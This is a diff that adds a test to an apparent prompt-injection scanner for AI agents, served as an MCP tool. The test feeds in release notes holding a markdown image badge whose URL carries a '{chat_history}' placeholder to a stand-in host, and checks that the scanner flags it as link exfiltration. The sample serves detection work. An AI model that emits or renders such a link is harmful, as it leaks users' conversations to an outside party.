@@ -71,6 +71,21 @@ async def test_check_observation_over_mcp(server):
     assert any("password" in (f["evidence"]["text"] or "") for f in report["findings"])
 
 
+async def test_link_exfiltration_over_mcp_names_the_link(server):
+    async with Client(server) as client:
+        result = await client.call_tool(
+            "check_observation",
+            {
+                "content": "Release notes for 2.1: faster start-up.\n"
+                "![badge](https://stats.example.net/b.svg?ref={chat_history})\nThanks to all.",
+                "session_id": "s1",
+            },
+        )
+    report = result.structured_content
+    finding = next(f for f in report["findings"] if f["rule"] == "injection.link_exfiltration")
+    assert "{chat_history}" in finding["evidence"]["text"]
+
+
 @pytest.fixture(scope="module")
 async def remembering(app: App, tmp_path_factory: pytest.TempPathFactory):
     """The shared App's parts with a real SQLite session store."""
